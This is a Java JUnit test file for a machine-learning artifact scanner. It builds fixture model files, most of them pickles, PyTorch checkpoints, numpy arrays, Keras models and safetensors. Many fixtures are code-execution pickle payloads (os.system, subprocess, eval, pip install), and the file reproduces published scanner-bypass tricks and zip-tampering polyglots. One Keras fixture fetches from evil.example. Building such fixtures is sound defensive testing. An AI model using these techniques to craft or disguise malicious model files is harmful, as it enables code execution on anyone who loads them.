package dev.veritensor.rules.artifacts;

import dev.veritensor.rules.artifacts.fixtures.Artifacts;
import dev.veritensor.rules.artifacts.fixtures.PickleWriter;
import dev.veritensor.rules.artifacts.fixtures.ZipWriter;
import dev.veritensor.testkit.FixtureTester;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

/**
 * Fixture tests for every artifact rule. Each fixture is built here, byte by byte, written to its
 * own folder with a sidecar {@code .expect} file listing the exact findings, and scanned through
 * the engine by the testkit (missing and extra findings both fail). Cases named after a published
 * scanner bypass reproduce that technique.
 */
class ArtifactFixturesTest {

    private static final String EXEC = "artifact/pickle-code-execution";
    private static final String UNKNOWN = "artifact/pickle-unknown-global";
    private static final String MALFORMED = "artifact/malformed-pickle";
    private static final String TAMPERING = "artifact/container-tampering";
    private static final String KERAS = "artifact/keras-lambda";
    private static final String OBJECT_ARRAY = "artifact/numpy-object-array";
    private static final String SAFETENSORS = "artifact/unsafe-safetensors-header";

    @TempDir
    Path root;

    private record Fixture(String name, String file, byte[] bytes, List<String> expected) {
    }

    private final List<Fixture> fixtures = new ArrayList<>();

    private void fixture(String name, String file, byte[] bytes, String... expected) {
        fixtures.add(new Fixture(name, file, bytes, List.of(expected)));
    }

    private static PickleWriter p() {
        return PickleWriter.create();
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    @TestFactory
    Stream<DynamicTest> fixtures() throws IOException {
        rawPickles();
        publishedBypasses();
        containers();
        numpyKerasSafetensors();
        notArtifacts();
        for (Fixture f : fixtures) {
            Path dir = Files.createDirectories(root.resolve(f.name()));
            Files.write(dir.resolve(f.file()), f.bytes());
            StringBuilder sidecar = new StringBuilder("# built by ArtifactFixturesTest\n");
            f.expected().forEach(id -> sidecar.append("1: ").append(id).append('\n'));
            Files.writeString(dir.resolve(f.file() + ".expect"), sidecar);
        }
        return FixtureTester.forPacks(new ArtifactRulePack()).dynamicTests(root);
    }

    private void rawPickles() {
        fixture("protocol0-os-system", "model.pkl", p().call0("os", "system", "id").stop().bytes(), EXEC);
        fixture("protocol0-builtin-alias-eval", "model.pkl",
                p().call0("__builtin__", "eval", "__import__('os').system('id')").stop().bytes(), EXEC);
        fixture("protocol2-posix-alias", "weights.bin",
                p().proto(2).global("posix", "system").string0("id").tuple1().reduce().stop().bytes(), EXEC);
        fixture("protocol4-subprocess-stack-global", "model.pt",
                p().proto(4).frame(40).call4("subprocess", "check_output", "id").stop().bytes(), EXEC);
        fixture("inst-opcode", "model.pkl", p().mark().string0("id").inst("os", "system").stop().bytes(), EXEC);
        fixture("obj-opcode", "model.pkl",
                p().mark().global("subprocess", "Popen").string0("id").obj().stop().bytes(), EXEC);
        fixture("newobj-ex-popen", "model.pkl", p().proto(4).str("subprocess").str("Popen").stackGlobal()
                .str("id").tuple1().emptyDict().newobjEx().stop().bytes(), EXEC);
        fixture("benign-state-dict", "state.pkl", Artifacts.torchStateDict(p()).stop().bytes());
        fixture("benign-protocol0-list", "list.pkl",
                p().mark().list().put(0).int0(1).append().int0(2).append().stop().bytes());
        fixture("unknown-sklearn-class", "pipeline.pkl", p().proto(4).str("sklearn.pipeline").str("Pipeline")
                .stackGlobal().emptyTuple().newobj().emptyDict().build().stop().bytes(), UNKNOWN);
        fixture("several-pickles-second-malicious", "stream.pkl", concat(
                Artifacts.torchStateDict(p()).stop().bytes(), p().call0("os", "system", "id").stop().bytes()), EXEC);
        fixture("malformed-tail-after-call", "model.pkl",
                concat(p().call0("os", "system", "id").bytes(), new byte[] {(byte) 0xff, 0x00, 0x13}), EXEC, MALFORMED);
        fixture("mid-stream-proto", "model.pkl", p().proto(2).mark().proto(4).str("os").str("system").stackGlobal()
                .str("id").tuple1().reduce().tuple().stop().bytes(), EXEC);
        fixture("ext-code", "model.pkl", p().proto(2).ext1(7).emptyTuple().reduce().stop().bytes(), UNKNOWN);
        fixture("truncated-benign", "model.pkl",
                java.util.Arrays.copyOf(Artifacts.torchStateDict(p()).bytes(), 40), MALFORMED);
    }

    /** Techniques published against other pickle scanners. */
    private void publishedBypasses() {
        // STACK_GLOBAL operands stored in the memo, decoys pushed and popped, operands fetched with BINGET
        fixture("bypass-memo-stack-global", "model.pkl", p().proto(4).str("os").binput(0).str("system").binput(1)
                .pop().pop().str("collections").str("OrderedDict").pop().pop()
                .binget(0).binget(1).stackGlobal().str("id").tuple1().reduce().stop().bytes(), EXEC);
        // the same with LONG_BINPUT/LONG_BINGET and MEMOIZE indices
        fixture("bypass-memoize-long-get", "model.pkl", p().proto(4).str("builtins").memoize().str("exec").memoize()
                .pop().pop().longBinget(0).longBinget(1).stackGlobal().str("print(1)").tuple1().reduce().stop().bytes(), EXEC);
        // BUILD overwrites attributes of an allowed global, then STACK_GLOBAL reads them back as operands
        fixture("bypass-build-on-global-numpy", "model.pkl", p().proto(4)
                .global("numpy", "prod").none().mark().unicode0("a").unicode0("os").dict().tuple2().build()
                .none().mark().unicode0("b").unicode0("system").dict().tuple2().build().pop()
                .global("numpy", "prod.a").put(0).global("numpy", "prod.b").put(1).pop().pop()
                .get(0).get(1).stackGlobal().unicode0("echo pwned").tuple1().reduce().stop().bytes(),
                EXEC, UNKNOWN, UNKNOWN, UNKNOWN);
        // numpy.__builtins__ reached through STACK_GLOBAL, then eval via BUILD-patched attributes
        fixture("bypass-numpy-builtins-dunder", "model.pkl", p().proto(4).str("numpy").str("size").stackGlobal()
                .memoize().memoize().str("numpy").str("__builtins__").stackGlobal().memoize().memoize()
                .binget(1).emptyDict().emptyDict().str("shape").binget(3).setitem().tuple2().build()
                .binget(1).binget(1).str("eval").tuple2().reduce()
                .str("__import__(\"os\").system(\"id\")").tuple1().reduce().stop().bytes(), EXEC, EXEC, UNKNOWN, UNKNOWN);
        // introspection chain through dunder attributes of an allowed builtin
        fixture("bypass-dunder-introspection", "output.pkl", p().proto(2)
                .global("builtins", "print.__class__.__base__.__subclasses__").emptyTuple().reduce().stop().bytes(), EXEC);
        // importlib.import_module plus getattr chain
        fixture("bypass-importlib-getattr", "model.pkl", p().proto(4).str("importlib").str("import_module")
                .stackGlobal().memoize().str("os").tuple1().reduce().memoize().str("builtins").str("getattr")
                .stackGlobal().memoize().binget(1).str("system").tuple2().reduce().str("id").tuple1().reduce()
                .stop().bytes(), EXEC, EXEC, UNKNOWN);
        // pip.main installs a package (CVE-2025-1716)
        fixture("bypass-pip-main", "model.pkl",
                p().proto(2).global("pip", "main").mark().mark().string0("install").string0("evil").list().tuple()
                        .reduce().stop().bytes(), EXEC);
        // command execution through library helpers missing from deny-lists
        fixture("bypass-collect-env-run", "model.pkl",
                p().proto(2).global("torch.utils.collect_env", "run").string0("id").tuple1().reduce().stop().bytes(), EXEC);
        fixture("bypass-spawnv-passfds", "model.pkl", p().proto(2).global("multiprocessing.util", "spawnv_passfds")
                .bytes(utf8("/bin/sh")).mark().string0("/bin/sh").string0("-c").string0("id").tuple().emptyTuple()
                .tuple3().reduce().stop().bytes(), EXEC);
        // attribute path through another module: posixpath.os.system
        fixture("bypass-attribute-path", "model.pkl",
                p().proto(4).str("posixpath").str("os.system").stackGlobal().str("id").tuple1().reduce().stop().bytes(), EXEC);
        // submodule of a denied package (CVE-2025-10157 style)
        fixture("bypass-asyncio-submodule", "model.pkl", p().proto(2)
                .global("asyncio.unix_events", "_UnixSubprocessTransport").emptyTuple().reduce().stop().bytes(), EXEC);
        // nested pickle.loads of an inner payload
        fixture("bypass-nested-loads", "model.pkl", p().proto(2).global("_pickle", "loads")
                .bytes(p().call0("os", "system", "id").stop().bytes()).tuple1().reduce().stop().bytes(), EXEC);
        // zlib obfuscation: an unknown decompressor feeding exec
        fixture("bypass-zlib-obfuscation", "model.pkl", p().proto(2).global("builtins", "exec")
                .global("zlib", "decompress").bytes(new byte[] {0x78, (byte) 0x9c, 3, 0, 0, 0, 0, 1}).tuple1().reduce()
                .tuple1().reduce().stop().bytes(), EXEC, UNKNOWN);
        // a GET of a memo entry that was never stored crashes naive scanners after the payload ran
        fixture("bypass-invalid-memo-after-call", "model.pkl",
                p().call0("os", "system", "id").binget(99).stop().bytes(), EXEC, MALFORMED);
        // STACK_GLOBAL type confusion: bytes and bytearray operands crash naive scanners (Python rejects them)
        fixture("bypass-stack-global-bytes-operand", "model.pkl",
                p().proto(4).bytes(utf8("os")).str("system").stackGlobal().stop().bytes(), MALFORMED);
        fixture("bypass-stack-global-bytearray-operand", "model.pkl",
                p().proto(5).str("os").bytearray8(utf8("system")).stackGlobal().stop().bytes(), MALFORMED);
        // a malicious pickle hidden in a checkpoint member with a non-standard name (CVE-2025-1889)
        fixture("bypass-torch-member-other-name", "model.pt", torchWithExtra(), EXEC);
    }

    private static byte[] torchWithExtra() {
        ZipWriter z = Artifacts.torchZip("archive", Artifacts.torchStateDict(p()).stop().bytes());
        z.add("archive/extra/hook.cfg", p().call0("os", "system", "id").stop().bytes());
        return z.bytes();
    }

    private void containers() throws IOException {
        byte[] benign = Artifacts.torchStateDict(p()).stop().bytes();
        byte[] evil = p().proto(2).global("os", "system").string0("id").tuple1().reduce().stop().bytes();
        fixture("torch-zip-benign", "pytorch_model.bin", Artifacts.torchZip("archive", benign).bytes());
        fixture("torch-zip-any-prefix", "checkpoint.pt", Artifacts.torchZip("my_model-v2", evil).bytes(), EXEC);
        fixture("torch-zip-local-name-mismatch", "model.pt", localNameTrick(evil), EXEC, TAMPERING);
        fixture("torch-zip-flag-bits", "model.pt", flagTrick(evil), EXEC, TAMPERING, TAMPERING);
        fixture("torch-zip-bad-crc", "model.pt", crcTrick(evil), EXEC, TAMPERING);
        ZipWriter storageCrc = ZipWriter.create();
        storageCrc.add("archive/data.pkl", benign);
        storageCrc.add("archive/data/0", new byte[24]).centralCrc(7);
        fixture("torch-zip-storage-bad-crc", "model.pt", storageCrc.bytes(), TAMPERING);
        fixture("torch-zip-deflated-benign", "model.pt", deflatedTorch(benign));
        // a pickle/zip polyglot: pickle readers see the benign pickle, zip readers the appended archive
        fixture("pickle-zip-polyglot", "model.pkl",
                Artifacts.torchZip("archive", evil).prefix(benign).bytes(), EXEC, TAMPERING, TAMPERING);
        fixture("script-with-appended-zip", "install.sh",
                Artifacts.torchZip("archive", benign).prefix(utf8("#!/bin/sh\necho hi\n")).bytes());
        fixture("torch-zip-duplicate-data-pkl", "model.pt", duplicateTrick(benign, evil), EXEC, TAMPERING);
        fixture("pickle-named-safetensors", "model.safetensors", evil, EXEC, TAMPERING);
        fixture("torch-zip-named-keras", "model.keras", Artifacts.torchZip("archive", benign).bytes(), TAMPERING);
        fixture("legacy-torch-benign", "old.pth", Artifacts.legacyTorch(Artifacts.torchStateDict(p()), new byte[0]));
        fixture("legacy-torch-malicious", "old.pth", Artifacts.legacyTorch(Artifacts.torchStateDict(p())
                .global("os", "system").string0("id").tuple1().reduce().pop(), new byte[0]), EXEC);
        byte[] legacyWithTail = Artifacts.legacyTorch(Artifacts.torchStateDict(p()), utf8("tail"));
        fixture("legacy-torch-protocol4-framed", "old.pth", concat(PickleWriter.create().proto(4).frame(13)
                .op(0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19).stop().bytes(),
                java.util.Arrays.copyOfRange(legacyWithTail, 15, legacyWithTail.length)), TAMPERING);
        fixture("legacy-torch-trailing", "old.pth",
                Artifacts.legacyTorch(Artifacts.torchStateDict(p()), utf8("tail")), TAMPERING);
        fixture("joblib-benign-array", "model.joblib",
                Artifacts.joblibArray(3, java.util.Arrays.copyOf(Artifacts.TENSOR_BYTES_THAT_LOOK_LIKE_OPCODES, 24)));
        fixture("joblib-after-array-malicious", "model.joblib", concat(java.util.Arrays.copyOf(
                Artifacts.joblibArray(3, new byte[24]), Artifacts.joblibArray(3, new byte[24]).length - 1),
                p().call0("os", "system", "id").stop().bytes()), EXEC);
        fixture("gzip-pickle", "model.pkl.gz", gzip(evil), EXEC);
        fixture("bzip2-pickle", "model.pkl.bz2", compress("bzip2", evil), EXEC);
        fixture("xz-pickle", "model.pkl.xz", compress("xz", evil), EXEC);
        fixture("seven-zip-checkpoint", "pytorch_model.bin", Artifacts.sevenZip(
                new String[] {"archive/data.pkl", "archive/version"}, new byte[][] {evil, utf8("3\n")}), EXEC);
        fixture("seven-zip-without-pickles", "docs.7z", Artifacts.sevenZip(new String[] {"README"},
                new byte[][] {utf8("hello")}));
        fixture("legacy-torch-tar", "ancient.pt", Artifacts.tar(new String[] {"sys_info", "pickle"},
                new byte[][] {p().proto(2).emptyDict().stop().bytes(), evil}), EXEC);
    }

    private void numpyKerasSafetensors() throws IOException {
        byte[] evilElement = p().global("os", "system").string0("id").tuple1().reduce().bytes();
        fixture("npy-float-benign", "weights.npy", Artifacts.npy("<f8", "(3,)", new byte[24]));
        fixture("npy-object-array", "labels.npy", Artifacts.npy("|O", "(1,)",
                Artifacts.objectArrayPickle(p().str("cat"))), OBJECT_ARRAY);
        fixture("npy-object-array-malicious", "labels.npy", Artifacts.npy("|O", "(1,)",
                Artifacts.objectArrayPickle(p().raw(evilElement))), OBJECT_ARRAY, EXEC);
        ZipWriter npz = ZipWriter.create();
        npz.add("a.npy", Artifacts.npy("<f4", "(2,)", new byte[8]));
        npz.add("b.npy", Artifacts.npy("|O", "(1,)", Artifacts.objectArrayPickle(p().raw(evilElement)))).deflated();
        fixture("npz-object-member", "arrays.npz", npz.bytes(), OBJECT_ARRAY, EXEC);
        ZipWriter manyArrays = ZipWriter.create();
        for (int i = 0; i < 400; i++) {
            manyArrays.add("coefficient_" + i + ".npy", Artifacts.npy("<f8", "(1,)", new byte[8]));
        }
        fixture("npz-many-plain-arrays", "wavelets.npz", manyArrays.bytes());
        manyArrays.add("zz_last.npy", Artifacts.npy("|O", "(1,)", Artifacts.objectArrayPickle(p().raw(evilElement))));
        fixture("npz-many-arrays-object-last", "wavelets.npz", manyArrays.bytes(), OBJECT_ARRAY, EXEC);
        String layers = "{\"module\": \"keras.layers\", \"class_name\": \"InputLayer\", \"config\": {\"name\": \"input\"}}";
        fixture("keras-benign", "model.keras", Artifacts.keras(kerasModel(layers + ", {\"module\": \"keras.layers\","
                + " \"class_name\": \"Dense\", \"config\": {\"name\": \"dense\", \"units\": 1, \"activation\": \"relu\"}}")));
        fixture("keras-lambda-layer", "model.keras", Artifacts.keras(kerasModel(layers + ", {\"module\": \"keras.layers\","
                + " \"class_name\": \"Lambda\", \"config\": {\"name\": \"lambda\", \"function\": {\"class_name\":"
                + " \"__lambda__\", \"config\": {\"code\": \"4wEAAAAAAAAA\", \"defaults\": null, \"closure\": null}}}}")),
                KERAS);
        fixture("keras-function-reference-exec", "model.keras", Artifacts.keras(kerasModel(layers + ", {\"module\":"
                + " \"keras.layers\", \"class_name\": \"Dense\", \"config\": {\"name\": \"dense\", \"units\": 1,"
                + " \"activation\": {\"module\": \"builtins\", \"class_name\": \"function\", \"config\": \"exec\","
                + " \"registered_name\": \"function\"}}}")), KERAS);
        fixture("keras-foreign-module", "model.keras", Artifacts.keras(kerasModel(layers + ", {\"module\":"
                + " \"subprocess\", \"class_name\": \"Popen\", \"config\": {\"name\": \"x\", \"args\": [\"id\"]}}")), KERAS);
        String keras2 = "{\"class_name\": \"Sequential\", \"config\": {\"name\": \"sequential\", \"layers\": ["
                + "{\"class_name\": \"InputLayer\", \"config\": {\"name\": \"input_1\"}}, %s]},"
                + " \"keras_version\": \"2.13.1\", \"backend\": \"tensorflow\"}";
        fixture("keras-h5-benign", "model.h5", Artifacts.kerasH5(String.format(keras2,
                "{\"class_name\": \"Dense\", \"config\": {\"name\": \"dense\", \"activation\": \"relu\"}}")));
        fixture("keras-h5-lambda", "model.h5", Artifacts.kerasH5(String.format(keras2,
                "{\"class_name\": \"Lambda\", \"config\": {\"name\": \"lambda\", \"function\": [\"4wEAAAAA\\n\","
                        + " null, null], \"function_type\": \"lambda\", \"module\": \"__main__\", \"arguments\": {}}}")),
                KERAS);
        fixture("keras-get-file-gadget", "model.keras", Artifacts.keras(kerasModel(layers + ", {\"module\":"
                + " \"keras.utils\", \"class_name\": \"get_file\", \"config\": {\"origin\": \"https://evil.example/x\"}}")),
                KERAS);
        fixture("keras-tfsm-layer", "model.keras", Artifacts.keras(kerasModel(layers + ", {\"module\": \"keras.layers\","
                + " \"class_name\": \"TFSMLayer\", \"config\": {\"name\": \"t\", \"filepath\": \"/tmp/saved\"}}")), KERAS);
        String ok = "{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},"
                + "\"b\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[8,16]},\"__metadata__\":{\"format\":\"pt\"}}";
        fixture("safetensors-benign", "model.safetensors", Artifacts.safetensors(ok, 16));
        fixture("safetensors-overlap", "model.safetensors", Artifacts.safetensors(
                "{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},"
                        + "\"b\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[4,12]}}", 16), SAFETENSORS);
        fixture("safetensors-outside-file", "model.safetensors", Artifacts.safetensors(
                "{\"a\":{\"dtype\":\"F32\",\"shape\":[1024],\"data_offsets\":[0,4096]}}", 16), SAFETENSORS);
        byte[] huge = Artifacts.safetensors("{}", 0);
        huge[3] = 0x20;
        fixture("safetensors-header-too-large", "model.safetensors", huge, SAFETENSORS);
        byte[] pastEnd = Artifacts.safetensors(ok, 16);
        pastEnd[2] = 0x01;
        fixture("safetensors-header-past-end", "model.safetensors", pastEnd, SAFETENSORS);
        fixture("safetensors-under-another-name", "weights.bin", Artifacts.safetensors(ok, 16));
        byte[] overlapUnnamed = Artifacts.safetensors("{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},"
                + "\"b\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[4,12]}}", 16);
        fixture("safetensors-under-another-name-overlap", "weights.bin", overlapUnnamed, SAFETENSORS);
    }

    private void notArtifacts() {
        fixture("text-word-list", "words.txt", utf8("cat\ndog\nsystem\n"));
        fixture("python-file", "hook.pth", utf8("import os; os.system('id')\n"));
        fixture("csv", "data.csv", utf8("1,2,3\n4,5,6\n"));
        fixture("lorem", "notes.md", utf8("Lorem ipsum (dolor) sit amet.\n"));
        fixture("plain-zip", "docs.zip", plainZip());
        fixture("c-code-brace-at-byte-8", "main.c", utf8("struct a{ int x; };\n"));
        StringBuilder record = new StringBuilder();
        for (int i = 0; i < 400; i++) {
            record.append("PyAcme/module_").append(i).append(".py,sha256=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdef,")
                    .append(1000 + i).append('\n');
        }
        fixture("wheel-record-of-persid-lines", "RECORD", utf8(record.toString()));
        fixture("template-brace-at-byte-8", "page.html.j2", utf8("<p>\n    {{ foo | upper }}\n</p>\n"));
        byte[] catalog = new byte[64];
        byte[] magic = {(byte) 0xde, 0x12, 0x04, (byte) 0x95, 0, 0, 0, 0, '{', 0, 0, 0, 0x1c};
        System.arraycopy(magic, 0, catalog, 0, magic.length);
        fixture("message-catalog-brace-at-byte-8", "messages.mo", catalog);
    }

    private static byte[] plainZip() {
        ZipWriter z = ZipWriter.create();
        z.add("README", utf8("hello"));
        return z.bytes();
    }

    private static String kerasModel(String layers) {
        return "{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"name\": \"sequential\","
                + " \"layers\": [" + layers + "]}, \"registered_name\": null}";
    }

    private static byte[] localNameTrick(byte[] evil) {
        ZipWriter z = ZipWriter.create();
        z.add("archive/data.pkl", evil).localName("archive/data.pkX");
        z.add("archive/version", utf8("3\n"));
        return z.bytes();
    }

    private static byte[] flagTrick(byte[] evil) {
        ZipWriter z = ZipWriter.create();
        z.add("archive/data.pkl", evil).flags(0x20, 0x00);
        z.add("archive/version", utf8("3\n"));
        return z.bytes();
    }

    private static byte[] crcTrick(byte[] evil) {
        ZipWriter z = ZipWriter.create();
        z.add("archive/data.pkl", evil).centralCrc(0x12345678L);
        z.add("archive/version", utf8("3\n"));
        return z.bytes();
    }

    private static byte[] deflatedTorch(byte[] benign) {
        ZipWriter z = ZipWriter.create();
        z.add("archive/data.pkl", benign).deflated();
        z.add("archive/data/0", new byte[24]).deflated();
        z.add("archive/version", utf8("3\n")).deflated();
        return z.bytes();
    }

    private static byte[] duplicateTrick(byte[] benign, byte[] evil) {
        ZipWriter z = ZipWriter.create();
        z.add("archive/data.pkl", benign);
        z.add("archive/data.pkl", evil);
        return z.bytes();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    private static byte[] gzip(byte[] data) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(data);
        }
        return out.toByteArray();
    }

    private static byte[] compress(String kind, byte[] data) throws IOException {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (var c = new org.apache.commons.compress.compressors.CompressorStreamFactory()
                    .createCompressorOutputStream(kind, out)) {
                c.write(data);
            }
            return out.toByteArray();
        } catch (org.apache.commons.compress.compressors.CompressorException e) {
            throw new IOException(e);
        }
    }
}
